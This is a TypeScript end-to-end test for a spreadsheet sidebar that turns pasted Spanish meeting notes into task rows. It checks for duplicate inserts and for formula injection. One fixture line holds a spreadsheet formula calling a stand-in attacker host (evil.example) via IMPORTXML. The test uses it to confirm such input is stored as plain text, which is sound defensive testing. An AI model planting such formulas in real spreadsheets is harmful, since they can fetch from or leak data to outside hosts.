// The real sidebar against the real server bundle on the emulated spreadsheet: a note pasted becomes rows, once.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { startPlayground, type Playground } from '../../playground/server';
import { launchBrowser } from './browser';

jest.setTimeout(60_000);

const note = readFileSync(
  join(__dirname, '..', '..', '..', 'shared', 'corpus', 'va', 'es-newsletter.txt'),
  'utf8',
);
const injection = ['Tareas', '- Laura: =IMPORTXML("http://evil.example/x", "//a") para el viernes'].join(
  '\n',
);

let browser: Browser | null = null;
let playground: Playground | null = null;

beforeAll(async () => {
  browser = await launchBrowser();
  if (browser)
    playground = await startPlayground({
      port: 0,
      reset: true,
      dataFile: null,
      locale: 'es_AR',
      now: new Date('2026-03-12T13:00:00Z'),
    });
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await playground?.close();
});

/** Every cell of every tab, as the sheet holds it, with the formulas beside the values. */
function allCells(): Array<{ value: string; formula: string }> {
  const sheets: GoogleAppsScript.Spreadsheet.Sheet[] = playground?.emulator.spreadsheet.getSheets() ?? [];
  return sheets.flatMap((sheet) => {
    const range = sheet.getDataRange();
    const formulas = range.getFormulas();
    return range
      .getValues()
      .flatMap((row, rowIndex) =>
        row.map((value, column) => ({ value: String(value), formula: formulas[rowIndex]?.[column] ?? '' })),
      );
  });
}

async function insertNote(page: Page, text: string): Promise<string> {
  await page.getByLabel('Notas de la reunión').fill(text);
  await page.locator('li.task').first().waitFor();
  await page.getByRole('button', { name: 'Agregar a la hoja' }).click();
  const status = page.locator('.status:not([hidden])');
  await status.waitFor();
  return (await status.textContent()) ?? '';
}

async function openSidebarPage(): Promise<Page | null> {
  if (!browser || !playground) return null;
  const context = browser.contexts()[0] ?? (await browser.newContext());
  const page = await context.newPage();
  await page.setViewportSize({ width: 300, height: 900 });
  await page.goto(new URL('/sidebar', playground.url).href);
  // The state arrives (the tabs turn Spanish) or the server's error shows: fail fast with its message.
  await page.locator('[role="alert"]:not([hidden]), [role="tab"]:has-text("Notas")').first().waitFor();
  expect(await page.locator('[role="alert"]:not([hidden])').allTextContents()).toEqual([]);
  return page;
}

describe('sidebar on the playground', () => {
  it('writes the tasks of a pasted note into the sheet, and a second insert adds nothing twice', async () => {
    const page = await openSidebarPage();
    if (!page) return;
    await insertNote(page, note);
    // Cells holding exactly a task's text: its row in the Tasks tab (the Meetings tab keeps the whole note).
    const count = (text: string) => allCells().filter((cell) => cell.value === text).length;
    expect(count('contratar el autorespondedor (GetResponse o AWeber)')).toBe(1);
    expect(count('Evaluar estadísticas de apertura y clics')).toBe(1);
    await page.getByRole('button', { name: 'Agregar a la hoja' }).click();
    await page.locator('.status:not([hidden])').waitFor();
    expect(count('contratar el autorespondedor (GetResponse o AWeber)')).toBe(1);
    await page.close();
  });

  it('stores a formula typed in the notes as plain text', async () => {
    const page = await openSidebarPage();
    if (!page) return;
    await insertNote(page, injection);
    const cells = allCells().filter((cell) => cell.value.includes('IMPORTXML'));
    expect(cells.length).toBeGreaterThan(0);
    expect(cells.filter((cell) => cell.formula !== '')).toEqual([]);
    await page.close();
  });
});
